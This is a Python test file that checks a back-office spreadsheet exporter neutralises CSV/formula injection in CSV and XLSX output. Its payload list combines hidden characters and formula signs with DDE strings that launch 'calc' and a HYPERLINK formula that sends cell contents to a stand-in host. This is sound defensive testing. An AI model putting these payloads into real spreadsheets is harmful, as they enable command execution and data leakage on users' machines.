"""Sheets that leave the shop: nothing anybody wrote is run by a spreadsheet."""

from __future__ import annotations

import csv
import io
import random
import unicodedata
from itertools import product

import pytest
from openpyxl import load_workbook

from backoffice.exports import sheets
from backoffice.exports.sheets import Format

BEFORE = [
    *("", " ", "\t", "\r", "\n", "\x00", "\ufeff", "\u3000", "\u200b", "\u00a0", "\u202e"),
    *("\u00ad", "\x1b", "\u2060", " \t\x00 "),
]
SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "|", "%"]
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.test?"&A1,"按我")',
    'SUM(1)*cmd|" /C calc"!A0',
]
PAYLOADS = [b + s + body for b, s, body in product(BEFORE, SIGNS, BODIES)]


def runs(cell: str) -> bool:
    """What a spreadsheet that looks past what nobody sees would take for a formula."""
    plain = unicodedata.normalize("NFKC", cell)
    seen = [c for c in plain if unicodedata.category(c) not in {"Cc", "Cf", "Zs"}]
    return bool(seen) and seen[0] in "=+-@|%"


def test_there_are_more_than_five_hundred_and_each_would_run():
    assert len(PAYLOADS) >= 500
    assert all(map(runs, PAYLOADS))


def test_in_a_csv_no_cell_runs_whatever_it_is_split_at():
    written = sheets.write(
        [("收件人", "備註"), *((p, f"送{p}") for p in PAYLOADS)], Format.CSV, title=""
    )

    rows = list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(PAYLOADS) + 1
    assert not any(runs(cell) for row in rows for cell in row)
    # and where a spreadsheet of another country splits at semicolons
    for separator in ";\t":
        for row in csv.reader(io.StringIO(written.decode("utf-8-sig")), delimiter=separator):
            assert not any(runs(cell.strip('"')) for cell in row)


def test_in_a_workbook_every_cell_is_text_or_a_number_of_ours():
    written = sheets.write(
        [("收件人",), *((p,) for p in PAYLOADS), (3,)], Format.XLSX, title="a/b*"
    )

    cells = [row[0] for row in load_workbook(io.BytesIO(written)).active.iter_rows()]
    assert {cell.data_type for cell in cells[:-1]} == {"s"}
    assert not any(runs(str(cell.value)) for cell in cells[:-1])
    assert (cells[-1].data_type, cells[-1].value) == ("n", 3)


def test_random_mixtures_do_not_run_either():
    chance = random.Random(1)
    pieces = [*BEFORE, *SIGNS, "甲", "1", ";", ",", '"', "'"]
    for _ in range(2_000):
        text = "".join(chance.choices(pieces, k=6))
        safe = sheets.neutral(text)
        assert not runs(safe), (text, safe)
        assert not any(runs(part) for part in safe.split(";"))


@pytest.mark.parametrize(
    "text", ["陳小美", "台北市中山區 1 號 3 樓-2", "0912-345-678", "#3-12", "a+b"]
)
def test_what_people_write_stays_as_it_is(text):
    assert sheets.neutral(text) == text


def test_lone_surrogates_and_overlong_cells_do_no_harm():
    assert sheets.neutral("美\ud800麗") == "美麗"
    assert len(sheets.neutral("長" * 9_000)) == sheets.LONGEST
    assert sheets.write([("\ud800=1",)], Format.CSV, title="")
